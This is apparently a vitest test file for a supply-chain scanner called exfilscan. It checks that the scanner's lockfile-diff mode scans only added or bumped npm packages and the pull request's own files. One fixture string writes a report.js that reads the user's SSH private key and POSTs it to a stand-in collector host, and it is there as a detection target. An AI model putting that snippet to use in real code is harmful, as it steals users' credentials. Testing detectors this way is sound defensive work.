// exfilscan deps --changed-since: real git repositories in temp dirs (a base commit and a
// PR commit), a loopback registry, and exactly what is scanned and reported.
import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ScanReport } from "../../src/core/types.js";
import { runCli } from "../helpers/cli.js";
import { FIXTURES } from "../helpers/expectations.js";
import { TestRegistry } from "./registry-server.js";
import { runCliAsync } from "../signatures/cli-async.js";
import { compareLockfile } from "../../src/deps/changed.js";
import { parseLockfileText } from "../../src/deps/lockfiles/index.js";

const PAIR = join(FIXTURES, "diff", "npm", "malicious", "padkit-postinstall");
const registry = new TestRegistry([
  { ecosystem: "npm", name: "padkit", version: "1.0.0", dir: join(PAIR, "old") },
  { ecosystem: "npm", name: "padkit", version: "1.0.1", dir: join(PAIR, "new") },
  { ecosystem: "npm", name: "gh-release-notes", version: "2.3.0", dir: join(FIXTURES, "diff", "npm", "benign", "gh-release-notes-refactor", "old") },
  { ecosystem: "npm", name: "ssh-agent-doctor", version: "0.9.1", dir: join(FIXTURES, "npm", "malicious", "async-generator-ssh-dir") },
]);

const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.invalid", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.invalid", GIT_CONFIG_NOSYSTEM: "1", HOME: tmpdir() } });

function lockfile(entries: Record<string, string>): string {
  const packages: Record<string, unknown> = { "": { name: "app", dependencies: Object.fromEntries(Object.keys(entries).map((n) => [n, "*"])) } };
  for (const [name, version] of Object.entries(entries)) {
    packages[`node_modules/${name}`] = { version, resolved: `${registry.base}/${name}/-/${name}-${version}.tgz`, integrity: registry.sri(`${name}@${version}`) };
  }
  return `${JSON.stringify({ name: "app", lockfileVersion: 3, packages }, null, 2)}\n`;
}

let repo = "";
let cache = "";
beforeAll(async () => {
  await registry.start();
  repo = mkdtempSync(join(tmpdir(), "exfilscan-pr-"));
  cache = mkdtempSync(join(tmpdir(), "exfilscan-pr-cache-"));
  git(repo, "init", "-q", "-b", "main");
  writeFileSync(join(repo, "package.json"), JSON.stringify({ name: "app", version: "1.0.0", private: true }, null, 2));
  writeFileSync(join(repo, "index.js"), "module.exports = (a, b) => a + b;\n");
  writeFileSync(join(repo, "package-lock.json"), lockfile({ padkit: "1.0.0", "gh-release-notes": "2.3.0" }));
  git(repo, "add", "-A");
  git(repo, "commit", "-qm", "base");
  git(repo, "checkout", "-qb", "pr");
  writeFileSync(join(repo, "package-lock.json"), lockfile({ padkit: "1.0.1", "gh-release-notes": "2.3.0", "ssh-agent-doctor": "0.9.1" }));
  writeFileSync(join(repo, "report.js"), "const fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519', 'utf8');\nfetch('https://collector.example.invalid/k', { method: 'POST', body: key });\n");
  git(repo, "add", "-A");
  git(repo, "commit", "-qm", "pr");
});
afterAll(() => registry.stop());

const deps = (cwd: string, ...args: string[]) => runCliAsync(["deps", "--changed-since", ...args, "-f", "json", "--registry", registry.base, "--cache-dir", cache, "--workers", "1"], { cwd, env: { EXFILSCAN_ADVISORY_STORE: join(cache, "none.json") } });

describe("deps --changed-since", () => {
  it("scans only the added and bumped packages plus the PR's own code, and reports what the bump adds", async () => {
    const run = await deps(repo, "main");
    expect(run.code, run.stderr).toBe(1);
    const report = JSON.parse(run.stdout) as ScanReport;
    const c = report.changes!;
    expect(c.added.map((p) => `${p.name}@${p.version}`)).toEqual(["ssh-agent-doctor@0.9.1"]);
    expect(c.changed.map((p) => `${p.name} ${p.previous} → ${p.version}`)).toEqual(["padkit 1.0.0 → 1.0.1"]);
    expect(c.removed).toEqual([]);
    expect(c.firstPartyFiles).toEqual(["report.js"]);
    expect(report.targets.map((t) => t.name).sort()).toEqual(["app", "padkit", "ssh-agent-doctor"]);
    expect(registry.hits.some((h) => h.includes("gh-release-notes"))).toBe(false);

    const update = report.findings.filter((f) => f.ruleId === "new-capability-in-update" && f.package?.name === "padkit");
    expect(update.map((f) => f.severity).sort()).toEqual(["high", "high", "medium"]);
    expect(update[0]!.dependency).toMatchObject({ lockfile: "package-lock.json", line: expect.any(Number) });
    expect(report.findings.some((f) => f.ruleId === "credential-exfiltration" && f.package?.name === "ssh-agent-doctor")).toBe(true);
    expect(report.findings.filter((f) => f.target === "." && f.ruleId === "credential-exfiltration").map((f) => f.location.file)).toEqual(["report.js"]);
    expect(run.stderr).toMatch(/changes since main \([0-9a-f]{12}\): 1 added, 1 changed, 0 removed dependencies; 1 own files/);

    const saved = join(cache, "report.json");
    writeFileSync(saved, run.stdout);
    const md = runCli(["render", saved, "-f", "markdown"]).stdout;
    expect(md).toContain("### Dependency changes");
    expect(md).toContain("`padkit` 1.0.0 → 1.0.1");
    const sarif = JSON.parse(runCli(["render", saved, "-f", "sarif"]).stdout) as { runs: { results: { ruleId: string; properties: { package?: string }; locations: { physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } } }[] }[] }[] };
    const padkit = sarif.runs[0]!.results.find((r) => r.ruleId === "new-capability-in-update" && r.properties.package === "padkit@1.0.1")!;
    expect(padkit.locations[0]!.physicalLocation.artifactLocation.uri).toBe("package-lock.json");
    expect(padkit.locations[0]!.physicalLocation.region?.startLine).toBe(update[0]!.dependency!.line);
  });

  it("is clean and scans nothing when nothing changed", async () => {
    const run = await deps(repo, "pr");
    expect(run.code, run.stderr).toBe(0);
    const report = JSON.parse(run.stdout) as ScanReport;
    expect(report.targets).toEqual([]);
    expect(report.changes).toMatchObject({ added: [], changed: [], removed: [], firstPartyFiles: [] });
  });

  it("deepens a shallow clone to find the base, and names fetch-depth when the ref cannot be found", async () => {
    const shallow = join(mkdtempSync(join(tmpdir(), "exfilscan-shallow-")), "clone");
    git(tmpdir(), "clone", "-q", "--depth", "1", "--branch", "pr", `file://${repo}`, shallow);
    const run = await deps(shallow, "origin/main");
    expect(run.stderr).toMatch(/fetched origin\/main/);
    expect(run.stderr).toMatch(/1 added, 1 changed, 0 removed/);
    const missing = await deps(shallow, "origin/no-such-branch");
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/fetch-depth: 0/);
  });
});

describe("lockfile comparison", () => {
  it("finds added, changed (version or integrity) and removed packages by name, not by line", () => {
    const a = parseLockfileText("package-lock.json", lockfile({ padkit: "1.0.0", "gh-release-notes": "2.3.0" }));
    const b = parseLockfileText("package-lock.json", lockfile({ "ssh-agent-doctor": "0.9.1", padkit: "1.0.1" }));
    const diff = compareLockfile(b, a);
    expect(diff.added.map((p) => p.name)).toEqual(["ssh-agent-doctor"]);
    expect(diff.changed.map((c) => [c.pkg.name, c.from, c.pkg.version])).toEqual([["padkit", "1.0.0", "1.0.1"]]);
    expect(diff.removed.map((p) => p.name)).toEqual(["gh-release-notes"]);
    expect(compareLockfile(a, a)).toEqual({ added: [], changed: [], removed: [] });
  });
});
